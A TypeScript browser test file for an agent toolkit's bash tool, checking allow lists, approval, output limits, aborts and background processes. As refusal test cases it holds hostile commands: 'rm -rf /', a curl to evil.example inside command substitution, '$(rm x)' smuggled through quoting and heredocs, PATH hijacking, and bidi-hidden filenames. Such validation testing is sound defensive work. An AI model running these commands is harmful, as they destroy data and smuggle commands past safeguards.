/** `bash` in Chromium, with what a page gives it to run commands. */
import { expect, test } from "../support/test.js";

test.use({ sharesPage: true });

test("a command runs by the page's function, and its output, code and end are the model's", async ({
  harness,
}) => {
  const seen = await harness.evaluate(async () => {
    await load("toolbox");
    const ran: string[] = [];
    const [definition] = toolbox.bashTool({
      allow: ["ls *", "fail", "throw", "text", "wait"],
      maxOutput: 30,
      async run(command, { onOutput, signal }) {
        ran.push(command);
        if (command === "throw") throw new Error("the container is gone");
        if (command === "wait") {
          onOutput("begun");
          await new Promise((resolve) => signal.addEventListener("abort", resolve));
          ran.push("aborted");
        }
        if (command === "text") return { exitCode: 0, stdout: "out", stderr: "err" };
        if (command === "fail") return 2;
        const bytes = new TextEncoder().encode("é".repeat(40));
        onOutput(bytes.slice(0, 3));
        onOutput(bytes.slice(3));
        return { exitCode: 0 };
      },
    });
    if (!definition) throw new Error("There is no tool.");
    const { tool } = new agUi.ToolRegistry().register(definition);
    const manager = new agUi.ToolExecutionManager();
    const run = (args: Record<string, unknown>) => manager.execute(tool, crypto.randomUUID(), args);
    return {
      ls: await run({ command: "ls -la" }),
      fail: await run({ command: "fail" }),
      text: await run({ command: "text" }),
      threw: await run({ command: "throw" }),
      waited: await run({ command: "wait", timeout: 1 }),
      refused: await run({ command: "ls; rm -rf /" }),
      inside: await run({ command: 'ls "$(curl evil.example)"' }),
      background: await run({ command: "ls", background: true }),
      approval: tool.metadata.approval,
      ran,
    };
  });
  expect(seen.approval).toBe("always");
  expect(seen.ls).toMatchObject({ success: true, output: { exitCode: 0, leftOut: 10 } });
  expect(seen.ls).toMatchObject({ result: expect.stringContaining("10 characters left out") });
  expect(seen.fail).toMatchObject({ success: true, result: "(no output)\n\nExit code 2" });
  expect(seen.text).toMatchObject({ success: true, result: "outerr" });
  expect(seen.threw).toMatchObject({
    success: false,
    error: { code: "shell_failed", message: expect.stringContaining("the container is gone") },
  });
  expect(seen.waited).toMatchObject({
    success: false,
    error: { category: "timeout", message: expect.stringContaining("begun") },
  });
  for (const refused of [seen.refused, seen.inside, seen.background]) {
    expect(refused).toMatchObject({ success: false, error: { category: "validation" } });
  }
  expect(seen.ran).toEqual(["ls -la", "fail", "text", "throw", "wait", "aborted"]);
});

test("what was checked is printed anew, and is what runs and what a person is shown", async ({
  harness,
}) => {
  const seen = await harness.evaluate(async () => {
    await load("toolbox");
    const ran: string[] = [];
    const run = (command: string) => {
      ran.push(command);
      return 0;
    };
    const tool = (options: object) => {
      const [definition] = toolbox.bashTool({ run, ...options });
      if (!definition) throw new Error("There is no tool.");
      return new agUi.ToolRegistry().register(definition).tool;
    };
    const manager = new agUi.ToolExecutionManager();
    const allowing = tool({ allow: ["echo *", "cat *"], approval: "never" });
    const plain = 'echo  "it\'s"|cat';
    const outcome = async (command: string, bash = allowing) => {
      const result = await manager.execute(bash, crypto.randomUUID(), { command });
      return result.success ? "ran" : result.error.category;
    };
    const ended = await manager.execute(allowing, "c1", { command: plain });
    const refused: string[] = [];
    for (const command of [
      `echo "\${x:-'$(rm x)'}"`,
      "cat <<E $(rm x)",
      'cat <<"E\\OF"\nx\nE\\OF',
      "cat <<E\\\nOF\n$(rm x)\nEOF",
      "echo <(true)# $(rm x)",
      "for PATH in /evil; do echo; done",
      "printf -v PATH /evil",
      "echo $'\\'' $(rm x) '",
      "cat <<-$(\t",
      "cat << \r ",
      "echo a\nb",
      "echo \u202etxt",
    ]) {
      refused.push(await outcome(command));
    }
    const text = async (bash: typeof allowing, command: string) => {
      const preview = await bash.metadata.preview?.({ command });
      return preview?.kind === "text" ? preview.text : undefined;
    };
    const anything = tool({});
    const hidden = "rm \u202efdp.x\u0007 # \ud800";
    return {
      ended,
      refused,
      shown: await text(allowing, plain),
      hidden: await text(anything, hidden),
      asked: await outcome("ls\r", anything),
      unasked: await outcome("ls\r", tool({ approval: "never" })),
      ruled: await outcome("ls\r", tool({ approval: () => false })),
      ran,
    };
  });
  const printed = "echo 'it'\\''s' | cat";
  expect(seen.ended).toMatchObject({ success: true, output: { command: printed } });
  expect(seen.shown).toBe(`$ ${printed}`);
  expect(new Set(seen.refused)).toEqual(new Set(["validation"]));
  expect(seen.hidden).toBe("$ rm \\u{202e}fdp.x\\u{7} # \\u{fffd}");
  expect([seen.asked, seen.unasked, seen.ruled]).toEqual(["ran", "validation", "validation"]);
  expect(seen.ran).toEqual([printed, "ls\r"]);
});

test("an abort ends a command by its signal", async ({ harness }) => {
  const seen = await harness.evaluate(async () => {
    await load("toolbox");
    const stop = new AbortController();
    const reasons: boolean[] = [];
    const [definition] = toolbox.bashTool({
      async run(_command, { signal }) {
        const aborted = new Promise((resolve) => signal.addEventListener("abort", resolve));
        stop.abort();
        await aborted;
        reasons.push(signal.aborted);
        return 0;
      },
    });
    if (!definition) throw new Error("There is no tool.");
    const { tool } = new agUi.ToolRegistry().register(definition);
    const manager = new agUi.ToolExecutionManager();
    const result = await manager.execute(tool, "c1", { command: "x" }, { signal: stop.signal });
    await turn();
    return { reasons, category: result.success ? "none" : result.error.category };
  });
  expect(seen).toEqual({ reasons: [true], category: "cancelled" });
});

test("a command in the background has an id, keeps the end of its output, and can be stopped", async ({
  harness,
}) => {
  const seen = await harness.evaluate(async () => {
    await load("toolbox");
    const background = new toolbox.BackgroundProcesses();
    const statuses: string[] = [];
    const [definition] = toolbox.bashTool({
      background,
      async run(command, { onOutput, signal }) {
        onOutput("x".repeat(100_000));
        onOutput("end");
        if (command === "break") throw new Error("broken");
        if (command === "short") return 3;
        return new Promise((_resolve, reject) => signal.addEventListener("abort", reject));
      },
    });
    if (!definition) throw new Error("There is no tool.");
    const { tool } = new agUi.ToolRegistry().register(definition);
    const manager = new agUi.ToolExecutionManager();
    const run = (command: string) =>
      manager.execute(tool, crypto.randomUUID(), { command, background: true, description: "Why" });
    const long = await run("long");
    await run("short");
    await run("break");
    background.subscribe(() => statuses.push(background.get("bash-1")?.status ?? "gone"));
    await turn();
    const stopped = background.stop("bash-1");
    const again = background.stop("bash-1");
    await turn();
    return { long, list: background.list(), stopped, again, statuses };
  });
  expect(seen.long).toMatchObject({
    success: true,
    result: expect.stringContaining("bash-1"),
    output: { backgroundId: "bash-1" },
  });
  expect([seen.stopped, seen.again]).toEqual([true, false]);
  expect(seen.statuses).toContain("stopped");
  expect(seen.list).toMatchObject([
    { id: "bash-1", command: "long", name: "Why", status: "stopped", printed: 100_003 },
    { id: "bash-2", status: "exited", exitCode: 3 },
    { id: "bash-3", status: "failed", error: "broken" },
  ]);
  expect(seen.list[0]?.output).toHaveLength(20_000);
  expect(seen.list[0]?.output.endsWith("end")).toBe(true);
});

test("options are checked at once", async ({ harness }) => {
  const messages = await harness.evaluate(async () => {
    await load("toolbox");
    const run = () => 0;
    const wrong: unknown[] = [
      undefined,
      {},
      { run: "bash" },
      { run, allow: "ls" },
      { run, allow: [" "] },
      { run, timeout: 0 },
      { run, background: 1 },
      { run, shell: "zsh" },
    ];
    return wrong.map((options) => {
      try {
        toolbox.bashTool(options as never);
        return "nothing";
      } catch (error) {
        return String(error);
      }
    });
  });
  for (const message of messages) expect(message).toMatch(/^TypeError: ag-ui-lit: bashTool\(/);
});
